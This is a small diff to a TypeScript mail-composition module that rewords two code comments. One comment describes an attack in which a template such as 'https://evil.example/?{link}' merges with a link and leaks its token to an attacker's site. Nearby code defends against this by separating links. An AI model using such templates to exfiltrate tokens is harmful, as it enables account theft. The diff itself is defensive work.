@@ -45,8 +45,8 @@ export function composeMail(
 }
 
 /**
- * Attack: a template with `https://evil.example/?{link}`. A mail program would make one link of both, and send the token
- * of the link to that site.
+ * Attack: a template with `https://evil.example/?{link}`. A mail program would treat both as a single link, and send
+ * the link's token to that site.
  */
 const separateLinks = (text: string): string => text.replace(/(?<=[^\s(]|\S\()\{link\}/g, ` ${linkAddress}`)
 
@@ -60,8 +60,8 @@ const linkAddress = '{link}'
 const tagOrText = /<[^>]*>|[^<]+/g
 
 /**
- * Replaces placeholders in texts, and the address `{link}`; other attributes remain unchanged. The placeholder of a link
- * becomes a link, unless it is inside one.
+ * Replaces placeholders in texts, and the address `{link}`; other attributes remain unchanged. The `{link}` placeholder
+ * becomes a link, unless it is already inside one.
  */
 function fillHtml(html: string, toValue: (name: MailPlaceholder) => string | undefined): string {
   let isInLink = false
